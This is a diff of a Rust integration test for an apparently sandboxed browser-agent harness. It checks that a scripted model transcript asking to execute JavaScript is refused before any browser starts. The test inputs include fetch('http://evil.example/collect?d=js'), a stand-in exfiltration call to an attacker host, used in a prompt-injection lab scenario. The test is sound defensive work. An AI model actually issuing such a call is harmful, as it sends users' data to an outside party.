@@ -548,17 +548,30 @@ async fn an_instruction_to_run_javascript_has_no_action_to_map_to() {
         json!({"airlock": {"kind": "evaluate", "script": "fetch('http://evil.example/collect?d=js')"}}),
         json!({"action": "execute_javascript", "text": "fetch('http://evil.example/collect?d=js')"}),
     ] {
-        let run = a
-            .run(
-                &a.task("http://ci.example/lab/inject/visible"),
-                &[line.to_string()],
-                &[],
-            )
-            .await;
-        assert_eq!(run.code(), Some(6), "{}", run.text());
-        assert!(run.text().contains("transcript line 1"), "{}", run.text());
-        assert_eq!(run.of_kind("proposal_rejected").len(), 1);
-        assert!(run.decisions().is_empty());
+        // A scripted model's whole transcript is checked before anything starts, so the line
+        // is refused before a browser exists to run it in.
+        let transcript = a.file("transcript.jsonl", &format!("{line}\n"));
+        let task = a.task("http://ci.example/lab/inject/visible");
+        let out = std::process::Command::new(BIN)
+            .current_dir(root())
+            .arg("--home")
+            .arg(a.home())
+            .args(["run", task.to_str().expect("utf8"), "--model"])
+            .arg(format!("scripted:{}", transcript.display()))
+            .args(["--approvals", "approve-all"])
+            .env("NO_COLOR", "1")
+            .env("ATTACK_SOR_TOKEN", &a.portal.sor_token)
+            .stdin(std::process::Stdio::null())
+            .output()
+            .expect("run airlock");
+        let said = text(&out);
+        assert_eq!(out.status.code(), Some(6), "{said}");
+        assert!(said.contains("transcript line 1"), "{said}");
+        assert!(said.contains("nothing was started"), "{said}");
+        assert!(
+            !said.lines().any(|l| l.starts_with("run run-")),
+            "no run: {said}"
+        );
     }
     a.assert_safe().await;
 }
